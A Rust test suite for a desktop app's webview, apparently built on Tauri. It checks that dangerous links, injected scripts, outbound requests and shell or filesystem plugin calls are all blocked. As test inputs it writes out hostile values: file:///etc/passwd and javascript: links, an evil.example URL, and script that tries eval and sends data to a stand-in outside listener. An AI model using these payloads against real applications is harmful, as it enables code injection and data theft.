//! What the page can do beyond its screens, also if somebody's text got to run in it: nothing.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use anyhow::Result;
use balcao_tests::webdriver::Window;
use serde_json::{Value, json};
use tokio::net::TcpListener;

use crate::place::Place;

const SOON: Duration = Duration::from_secs(10);

/// Long enough for what is not to happen.
const A_WHILE: Duration = Duration::from_millis(400);

/// Links, and whether the system is asked to open them.
const LINKS: [(&str, bool); 14] = [
    ("https://example.org/mapa?bairro=Centro", true),
    ("http://example.org/", true),
    ("mailto:a@example.org?subject=Consulta", true),
    ("tel:+5511988887777", true),
    ("file:///etc/passwd", false),
    ("FILE:///etc/passwd", false),
    ("data:text/html,<b>oi</b>", false),
    ("javascript:window.ran = 'link'", false),
    ("JaVaScRiPt:window.ran = 'link'", false),
    ("ms-msdt:/id", false),
    ("search-ms:query=x", false),
    ("mailto:a@example.org?attach=/etc/passwd", false),
    ("https://banco.example@evil.example/", false),
    ("tauri://elsewhere/index.html", false),
];

/// Somebody on the network who would hear of whatever gets out.
struct Outside {
    address: SocketAddr,
    visits: Arc<AtomicUsize>,
}

impl Outside {
    async fn listen() -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let outside = Self { address: listener.local_addr()?, visits: Arc::default() };
        let visits = outside.visits.clone();
        tokio::spawn(async move {
            while listener.accept().await.is_ok() {
                visits.fetch_add(1, Ordering::SeqCst);
            }
        });
        Ok(outside)
    }

    fn visits(&self) -> usize {
        self.visits.load(Ordering::SeqCst)
    }
}

async fn open(place: &Place) -> Result<(balcao_tests::driver::Driver, Window)> {
    let (driver, window) = place.open().await?;
    window.wait_for("[data-testid=start-sample]", Duration::from_secs(30)).await?;
    // A page that was left and loaded again does not have it.
    window.run("window.marked = location.href;", json!([])).await?;
    Ok((driver, window))
}

async fn assert_still_there(window: &Window, after: &str) -> Result<()> {
    let there = window.run("return window.marked === location.href && window.ran === undefined;", json!([])).await?;
    assert_eq!((there, window.count().await?), (json!(true), 1), "the page is where it was after {after}");
    Ok(())
}

/// Waits until the system was asked to open so many links.
async fn until_opened(place: &Place, count: usize) -> Vec<String> {
    let begun = Instant::now();
    while place.opened().len() < count && begun.elapsed() < SOON {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    place.opened()
}

#[tokio::test]
#[ignore = "needs a display, a keyring and the drivers: cargo xtask test --only window"]
async fn the_real_window_stays_where_it_is_and_hands_pages_mails_and_calls_to_the_system() -> Result<()> {
    let place = Place::new()?;
    let (_driver, window) = open(&place).await?;
    let mut expected = Vec::new();
    for target in ["_self", "_blank"] {
        for (link, leaves) in LINKS {
            let make = "document.getElementById('link')?.remove();
                const link = document.createElement('a');
                [link.id, link.textContent, link.href, link.target] = ['link', 'link', arguments[0], arguments[1]];
                link.style.cssText = 'position: fixed; inset: 0 auto auto 0; z-index: 9; padding: 9px; background: #fff';
                document.body.append(link);";
            window.run(make, json!([link, target])).await?;
            window.click_on("#link", SOON).await?;
            if leaves {
                expected.push(link.to_owned());
            } else {
                tokio::time::sleep(A_WHILE).await;
            }
            assert_eq!(until_opened(&place, expected.len()).await, expected, "{link} {target}");
            assert_still_there(&window, link).await?;
        }
    }

    // Without anybody's click.
    let outside = Outside::listen().await?;
    let page = format!("http://{}/pagina", outside.address);
    for script in ["location.href = arguments[0];", "location.replace(arguments[0]);", "window.open(arguments[0]);"] {
        window.run(script, json!([page])).await?;
        tokio::time::sleep(A_WHILE).await;
        assert_still_there(&window, script).await?;
    }
    assert_eq!(outside.visits(), 0, "the window loads nothing from there");
    window.close().await
}

/// What a text that came to run would try, with the address that it would reach. Each names the directive that forbids it.
const TRIES: &str = "
    const outside = arguments[0];
    window.refused = [];
    document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
    const add = (name, settings) => document.body.append(Object.assign(document.createElement(name), settings));
    const attempt = (act) => { try { act()?.catch?.(() => {}); } catch { /* refused at once */ } };
    attempt(() => add('script', { textContent: \"window.ran = 'inline'\" }));
    attempt(() => add('script', { src: `${outside}script.js` }));
    attempt(() => add('script', { src: \"data:text/javascript,window.ran='data'\" }));
    attempt(() => { const b = document.createElement('b'); b.setAttribute('onclick', \"window.ran = 'handler'\"); document.body.append(b); b.click(); b.remove(); });
    attempt(() => (0, eval)(\"window.ran = 'eval'\"));
    attempt(() => new Function(\"window.ran = 'function'\")());
    attempt(() => setTimeout(\"window.ran = 'timeout'\", 0));
    attempt(() => import(`${outside}module.js`));
    attempt(() => add('link', { rel: 'stylesheet', href: `${outside}style.css` }));
    attempt(() => add('img', { src: `${outside}picture.png` }));
    attempt(() => add('iframe', { src: `${outside}frame` }));
    attempt(() => add('object', { data: `${outside}object` }));
    attempt(() => add('video', { src: `${outside}film` }));
    attempt(() => fetch(`${outside}fetch`, { mode: 'no-cors', method: 'POST', body: 'Maria' }));
    attempt(() => { const request = new XMLHttpRequest(); request.open('GET', `${outside}xhr`); request.send(); });
    attempt(() => navigator.sendBeacon(`${outside}beacon`, 'Maria'));
    attempt(() => new WebSocket(outside.replace('http', 'ws')));
    attempt(() => new EventSource(`${outside}events`));
    attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch('${outside}worker')`]))));
    attempt(() => { const form = Object.assign(document.createElement('form'), { action: `${outside}form`, method: 'post' }); document.body.append(form); form.submit(); });
";

#[tokio::test]
#[ignore = "needs a display, a keyring and the drivers: cargo xtask test --only window"]
async fn the_real_window_runs_no_text_and_lets_nothing_out() -> Result<()> {
    let place = Place::new()?;
    let (_driver, window) = open(&place).await?;
    let outside = Outside::listen().await?;
    window.run(TRIES, json!([format!("http://{}/", outside.address)])).await?;
    tokio::time::sleep(Duration::from_secs(2)).await;
    let refused: Vec<String> = serde_json::from_value(window.run("return window.refused;", json!([])).await?)?;
    for directive in ["script-src", "style-src", "img-src", "frame-src", "media-src", "connect-src", "form-action"] {
        assert!(refused.iter().any(|one| one.starts_with(directive)), "{directive} refused something: {refused:?}");
    }
    assert_eq!(window.run("return window.ran ?? null;", json!([])).await?, Value::Null, "nothing of it ran");
    assert_eq!(outside.visits(), 0, "nobody outside heard of it");
    assert_eq!(place.opened(), Vec::<String>::new(), "nothing went to the system's programs either");
    assert_still_there(&window, "all of it").await?;
    // The way that is open for the screens still is.
    assert_eq!(window.call("get_session", json!({})).await?["state"], "first_run");
    window.close().await
}

#[tokio::test]
#[ignore = "needs a display, a keyring and the drivers: cargo xtask test --only window"]
async fn the_real_window_has_one_command_and_answers_what_makes_no_sense() -> Result<()> {
    let place = Place::new()?;
    let (_driver, window) = open(&place).await?;
    for (name, arguments) in [
        ("plugin:shell|open", json!({"path": "/bin/sh"})),
        ("plugin:shell|execute", json!({"program": "sh"})),
        ("plugin:fs|read_text_file", json!({"path": "/etc/passwd"})),
        ("plugin:opener|open_url", json!({"url": "file:///etc/passwd"})),
        ("plugin:http|fetch", json!({"url": "http://127.0.0.1/"})),
        ("plugin:process|exit", json!({"code": 0})),
        ("plugin:autostart|enable", json!({})),
        ("plugin:updater|check", json!({})),
        ("plugin:window|close", json!({})),
        ("plugin:webview|create_webview_window", json!({"options": {"label": "x", "url": "http://127.0.0.1/"}})),
        ("plugin:webview|internal_toggle_devtools", json!({})),
        ("plugin:tray|new", json!({"options": {}})),
        ("plugin:menu|new", json!({"kind": "Menu", "options": {}, "handler": 1})),
        ("plugin:path|resolve_directory", json!({"directory": 1})),
        ("plugin:app|app_hide", json!({})),
        ("get_session", json!({})),
        ("", json!({})),
    ] {
        let answer = window.invoke(name, arguments).await?;
        assert!(answer.is_err(), "{name} is for nobody: {answer:?}");
    }
    for (arguments, code) in [
        (json!({}), None),
        (json!({"command": 5, "payload": {}}), None),
        (json!({"command": "get_session"}), None),
        (json!({"command": "nothing_like_it", "payload": {}}), Some("unknown_command")),
        (json!({"command": "../get_session", "payload": {}}), Some("unknown_command")),
        (json!({"command": "get_session", "payload": []}), Some("bad_payload")),
        (json!({"command": "get_session", "payload": "x".repeat(1 << 20)}), Some("bad_payload")),
        (json!({"command": "start_local_clinic", "payload": {"clinic_name": {"a": []}}}), Some("bad_payload")),
        (json!({"command": "unlock", "payload": {"pin": 1}}), Some("bad_payload")),
    ] {
        let refused = window.invoke("call", arguments.clone()).await?;
        let Err(problem) = refused else { panic!("{arguments} is answered: {refused:?}") };
        assert!(code.is_none_or(|code| problem["code"] == code), "{problem}");
        assert!(problem.to_string().len() < 400, "what was sent is not repeated");
    }
    assert_eq!(window.run("return typeof window.__TAURI__;", json!([])).await?, "undefined");
    assert_eq!(window.call("get_session", json!({})).await?["state"], "first_run", "and goes on");
    window.close().await
}
